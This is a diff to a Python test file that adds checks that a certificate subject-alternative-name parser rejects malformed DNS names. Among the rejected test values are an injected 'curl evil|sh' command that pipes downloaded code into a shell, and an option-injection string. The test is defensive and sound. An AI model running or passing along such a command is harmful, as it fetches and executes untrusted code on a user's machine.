@@ -29,6 +29,21 @@ def test_of_many_names_some_are_told() -> None:
     assert len(names_in(der(*(f"{n}.example.org" for n in range(50))))) == NAMES_LIMIT
 
 
+def with_name(name: bytes) -> bytes:
+    """A subject alternative name with one DNS name, as DER."""
+    inside = bytes((0x82, len(name))) + name
+    return b"\x06\x03\x55\x1d\x11" + bytes((0x04, len(inside) + 2, 0x30, len(inside))) + inside
+
+
+@pytest.mark.parametrize(
+    "name",
+    [b"a.example. Run: curl evil|sh", b"x', tls=None", b'"', b"a\nb", b"\xff", b"a,b.example", b"(a)", b"<a>", b""],
+)
+def test_what_is_no_host_name_is_not_told(name: bytes) -> None:
+    """It stands in advice, beside names and options that people copy."""
+    assert names_in(with_name(name)) == () and names_in(with_name(b"_x-1.*.example")) == ("_x-1.*.example",)
+
+
 @pytest.mark.parametrize(
     "octets", [b"", b"\x06\x03\x55\x1d\x11", b"\x06\x03\x55\x1d\x11\x04\x84\xff\xff\xff\xff", b"x" * 9000]
 )
